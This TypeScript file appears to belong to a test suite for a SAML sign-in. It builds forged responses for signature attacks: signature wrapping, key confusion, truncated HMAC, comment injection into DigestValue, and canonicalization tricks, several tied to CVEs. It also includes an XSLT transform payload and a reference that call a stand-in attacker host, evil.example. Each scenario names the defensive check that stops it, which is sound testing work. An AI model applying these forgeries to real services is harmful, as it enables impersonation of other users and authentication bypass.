/** Attacks on the signature itself: what it refers to, how it is computed, and with which key. */
import { namespaces } from '../../sign-in/names';
import { writeAssertion, writeResponse } from '../response';
import { type Captured, type Scenario, signInAs } from '../scenario';
import { between, partsOf, replaced, sign, signatureIn } from '../sign';
import { attack, keep, onlyVerified, ownParent } from './attack';

const change = 'Write the name of someone else into it.';
const configuredOnly =
  'Only the certificates that are configured for the provider verify a response. What it brings along is compared with them and never trusted.';
const exclusive = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ofNothing = '47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=';

export const signature: readonly Scenario[] = [
  attack(
    {
      id: 'tampered',
      label: 'Another name',
      summary: 'The NameID and the email of a signed assertion are those of someone else.',
      stoppedBy: 'signature-valid',
      steps: [keep, change],
      hope: 'nobody verifies the signature',
      why: 'The digest of what stands there is not the one that the provider signed.',
    },
    (captured) => withSignatureOf(captured, (genuine) => genuine),
  ),
  attack(
    {
      id: 'stripped',
      label: 'Signature taken out',
      summary: 'The assertion is changed, and its signature is taken out.',
      stoppedBy: 'signature-present',
      steps: [keep, change, 'Take the signature out.'],
      hope: 'a signature is verified only when there is one',
      why: 'Without a signature nothing is believed.',
    },
    (captured) => withSignatureOf(captured, () => ''),
  ),
  attack(
    {
      id: 'empty-value',
      label: 'Empty signature',
      summary: 'The assertion is changed, and its signature has no value.',
      stoppedBy: 'signature-valid',
      steps: [keep, change, 'Empty SignatureValue.'],
      hope: 'verifying nothing is taken for success',
      why: 'A signature of no bytes fits nothing.',
    },
    (captured) =>
      withSignatureOf(captured, (genuine) =>
        replaced(genuine, between(genuine, '<ds:SignatureValue>', '</ds:SignatureValue>'), '<ds:SignatureValue/>'),
      ),
  ),
  attack(
    {
      id: 'own-certificate',
      label: 'Attacker’s certificate',
      summary: 'A forged response is signed with a key of the attacker’s, and brings along the certificate for it.',
      stoppedBy: 'signature-certificate',
      steps: [
        'Make a key, and a certificate that names the provider.',
        'Write a response about someone else, sign it, and put the certificate into KeyInfo.',
      ],
      hope: 'the certificate in the response is used to verify it',
      why: configuredOnly,
      source: 'CVE-2023-48703',
    },
    ({ parties, signIn, other }) => signedBy({ parties, signIn }, (plain, id) => sign(plain, id, other)),
  ),
  attack(
    {
      id: 'borrowed-certificate',
      label: 'Borrowed certificate',
      summary: 'A forged response is signed with a key of the attacker’s, and shows the certificate of the provider.',
      stoppedBy: 'signature-valid',
      steps: [
        'Write a response about someone else, and sign it with a key of one’s own.',
        'Put the provider’s certificate into KeyInfo: it is public.',
      ],
      hope: 'the certificate is compared, and the signature is not verified with it',
      why: 'The signature does not fit the key of the certificate that is shown.',
    },
    ({ parties, signIn, other, own }) =>
      signedBy({ parties, signIn }, (plain, id) => sign(plain, id, other, { shown: own.certificate })),
  ),
  attack(
    {
      id: 'key-confusion',
      label: 'Key confusion',
      summary: 'A forged response is signed by HMAC, with the provider’s public certificate as the secret.',
      stoppedBy: 'signature-algorithm',
      steps: [
        'Write a response about someone else.',
        'Sign it by HMAC-SHA1 with the text of the provider’s certificate, which everybody has.',
      ],
      hope: 'the algorithm is taken from the response, and the configured certificate is used as whatever it wants',
      why: 'HMAC signs with a secret that both sides have, and there is none here: only signatures of key pairs are allowed.',
    },
    ({ parties, signIn, own }) =>
      signedBy({ parties, signIn }, (plain, id) =>
        sign(plain, id, { ...own, key: own.certificate }, { algorithm: 'hmac-sha1' }),
      ),
  ),
  attack(
    {
      id: 'truncated-hmac',
      label: 'HMAC of one bit',
      summary: 'A forged response is signed by HMAC of which only one bit counts.',
      stoppedBy: 'signature-algorithm',
      steps: [
        'Write a response about someone else, signed by HMAC.',
        'Set HMACOutputLength to 1, so that every second value fits.',
      ],
      hope: 'the length is taken from the response',
      why: 'HMAC is not allowed, at any length.',
      source: 'CVE-2009-0217',
    },
    ({ parties, signIn, own }) =>
      signedBy({ parties, signIn }, (plain, id) =>
        sign(plain, id, { ...own, key: own.certificate }, { algorithm: 'hmac-sha1' }).replace(
          /(<ds:SignatureMethod [^>]*?)(?:\/>|><\/ds:SignatureMethod>)/,
          (_, start: string) => `${start}><ds:HMACOutputLength>1</ds:HMACOutputLength></ds:SignatureMethod>`,
        ),
      ),
  ),
  attack(
    {
      id: 'detached',
      label: 'Detached signature',
      summary: 'The signature of the response covers an assertion in an Object, and the one in its place is forged.',
      stoppedBy: 'xml-structure',
      steps: [
        keep,
        'Write an assertion about someone else in its place.',
        'Let the signature stand in the response, with what it covers in an Object.',
      ],
      hope: 'a signature in the response is taken for one of the response',
      why: ownParent,
    },
    ({ around, forged, signed }) =>
      replaced(
        around(forged),
        '</saml:Issuer>',
        `</saml:Issuer>\n  ${replaced(signed.signature, '</ds:Signature>', `<ds:Object>${signed.bare}</ds:Object></ds:Signature>`)}`,
      ),
  ),
  attack(
    {
      id: 'borrowed-signature',
      label: 'Signature of another message',
      summary: 'A forged assertion carries a signature that refers to an assertion which is not there.',
      stoppedBy: 'signature-scope',
      steps: [keep, 'Write an assertion about someone else with an ID of its own, and put the signature into it.'],
      hope: 'a reference that leads nowhere is passed over',
      why: ownParent,
    },
    ({ around, forged, signed }) =>
      around(replaced(forged, '</saml:Issuer>', `</saml:Issuer>\n    ${signed.signature}`)),
  ),
  reference(
    'empty-reference',
    'Empty reference',
    'The signature in the assertion refers to "", the whole document, as which another one can be meant.',
    '',
  ),
  reference(
    'truncated-reference',
    'Reference cut off',
    'The reference of the signature is cut to "#": an ID without letters.',
    '#',
  ),
  reference(
    'outside-reference',
    'Reference to the outside',
    'The reference of the signature leads to a page of the attacker’s.',
    'https://evil.example/assertion.xml',
  ),
  attack(
    {
      id: 'no-reference',
      label: 'Signature over nothing',
      summary: 'The signature has no reference: it signs nothing.',
      stoppedBy: 'xml-structure',
      steps: [keep, change, 'Take the Reference out of the signature.'],
      hope: 'each reference is verified, and none is none too few',
      why: 'A signature has one reference, to the element in which it stands.',
    },
    (captured) =>
      withSignatureOf(captured, (genuine) =>
        replaced(genuine, between(genuine, '<ds:Reference ', '</ds:Reference>'), ''),
      ),
  ),
  attack(
    {
      id: 'two-references',
      label: 'Two references',
      summary: 'The signature refers to the signed assertion and, besides, to the forged one.',
      stoppedBy: 'xml-structure',
      steps: [
        keep,
        'Write an assertion about someone else, and a second reference with its digest into the signature.',
      ],
      hope: 'the digests are verified, and which of them the signature covers is not asked',
      why: 'A signature has one reference, to the element in which it stands.',
      source: 'CVE-2026-33487',
    },
    (captured) => {
      const { around, forged, signed } = captured;
      const second = between(forgedSignedInfo(captured), '<ds:Reference ', '</ds:Reference>');
      const doubled = replaced(signed.whole, '</ds:Reference>', `</ds:Reference>${second}`);
      return around(`${doubled}\n  ${forged}`);
    },
  ),
  attack(
    {
      id: 'two-signed-infos',
      label: 'Two SignedInfos',
      summary:
        'The signature holds a forged SignedInfo with the digest of a forged assertion, and the signed one behind it.',
      stoppedBy: 'xml-structure',
      steps: [keep, change, 'Put a second SignedInfo with the new digest in front of the one that was signed.'],
      hope: 'the digest is read from the first, and the signature verified over the last',
      why: `A signature has one SignedInfo. ${onlyVerified}`,
      source: 'CVE-2025-29774',
    },
    (captured) =>
      withSignatureOf(captured, (genuine) =>
        replaced(genuine, '<ds:SignedInfo>', `${forgedSignedInfo(captured)}\n      <ds:SignedInfo>`),
      ),
  ),
  attack(
    {
      id: 'digest-comment',
      label: 'Comment in the digest',
      summary: 'DigestValue holds the digest of a forged assertion as a comment, in front of the signed one.',
      stoppedBy: 'xml-structure',
      steps: [
        keep,
        change,
        'Put the new digest into DigestValue as a comment: comments are not signed, so the signature still fits.',
      ],
      hope: 'the first thing in DigestValue is taken for the digest',
      why: 'Nothing but text stands in DigestValue, or the response is refused.',
      source: 'CVE-2025-29775',
    },
    (captured) => {
      const digest = digestIn(forgedSignedInfo(captured));
      return withSignatureOf(captured, (genuine) =>
        replaced(genuine, '<ds:DigestValue>', `<ds:DigestValue><!--${digest}-->`),
      );
    },
  ),
  transform(
    'xslt',
    'XSLT transform',
    'A transform of the signature runs a program that the response brings along.',
    'http://www.w3.org/TR/1999/REC-xslt-19991116',
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document(\'https://evil.example/\')"/></xsl:template></xsl:stylesheet>',
  ),
  transform(
    'xpath',
    'XPath transform',
    'A transform of the signature leaves out the part of the assertion that is forged.',
    'http://www.w3.org/TR/1999/REC-xpath-19991116',
    `<ds:XPath xmlns:saml="${namespaces.assertion}">not(ancestor-or-self::saml:Subject)</ds:XPath>`,
  ),
  attack(
    {
      id: 'void-canonicalization',
      label: 'Canonicalization of nothing',
      summary: 'A relative namespace makes canonicalization fail, and the digest is that of no bytes at all.',
      stoppedBy: 'signature-valid',
      steps: [
        keep,
        change,
        'Declare a namespace that is no full URI, on which canonicalization gives up.',
        'Set the digest to that of nothing.',
      ],
      hope: 'a canonicalization that failed is taken for one that gave no bytes',
      why: 'Canonicalization that fails ends the check, and nothing is digested in its place.',
      source: 'PortSwigger, “The Fragile Lock”, 2025',
    },
    (captured) =>
      withSignatureOf(captured, (genuine) =>
        genuine
          .replace(digestIn(genuine), () => ofNothing)
          .replaceAll(`"${exclusive}"`, '"http://www.w3.org/TR/2001/REC-xml-c14n-20010315"'),
      ).replace('<samlp:Response ', '<samlp:Response xmlns:void="1" '),
  ),
];

/** The attacker's assertion with the victim's name and the same ID, under what is made of the genuine signature. */
function withSignatureOf({ genuine, signed, signIn, parties }: Captured, make: (genuine: string) => string): string {
  const { response, assertion } = signInAs(signIn, parties.victim);
  const plain = partsOf(writeResponse(response, writeAssertion(assertion)), assertion.id).whole;
  const made = make(signed.signature);
  // The line on which the signature stands is signed too.
  const forged = replaced(plain, '</saml:Issuer>', `</saml:Issuer>\n    ${made}`);
  return replaced(genuine, signed.whole, forged);
}

/** A whole response about the victim, signed in some way. */
function signedBy(
  { parties, signIn }: Pick<Captured, 'parties' | 'signIn'>,
  by: (plain: string, id: string) => string,
): string {
  const { response, assertion } = signInAs(signIn, parties.victim);
  return by(writeResponse(response, writeAssertion(assertion)), assertion.id);
}

/** A SignedInfo whose digest fits the victim's assertion, as whoever has any key can make it. */
function forgedSignedInfo(captured: Captured): string {
  const { other } = captured;
  const xml = signedBy(captured, (plain, id) => sign(plain, id, other));
  return between(signatureIn(xml), '<ds:SignedInfo>', '</ds:SignedInfo>');
}

function digestIn(signedInfo: string): string {
  return between(signedInfo, '<ds:DigestValue>', '</ds:DigestValue>').replace(/<[^>]*>/g, '');
}

/** The signature of the attacker's assertion, leading to something else. */
function reference(id: string, label: string, summary: string, uri: string): Scenario {
  return attack(
    {
      id,
      label,
      summary,
      stoppedBy: 'signature-scope',
      steps: [keep, change, 'Let the reference of the signature lead somewhere else.'],
      hope: 'what the reference leads to is verified, and what stands in the assertion is read',
      why: ownParent,
    },
    (captured) => withSignatureOf(captured, (genuine) => genuine.replace(/ URI="[^"]*"/, () => ` URI="${uri}"`)),
  );
}

function transform(id: string, label: string, summary: string, algorithm: string, content: string): Scenario {
  return attack(
    {
      id,
      label,
      summary,
      stoppedBy: 'signature-scope',
      steps: [keep, change, 'Add a transform to the reference, which is carried out before the signature is verified.'],
      hope: 'transforms are carried out whatever they do',
      why: 'Two transforms are allowed: leaving the signature out, and canonicalization.',
    },
    (captured) =>
      withSignatureOf(captured, (genuine) =>
        replaced(
          genuine,
          '</ds:Transforms>',
          `<ds:Transform Algorithm="${algorithm}">${content}</ds:Transform></ds:Transforms>`,
        ),
      ),
  );
}
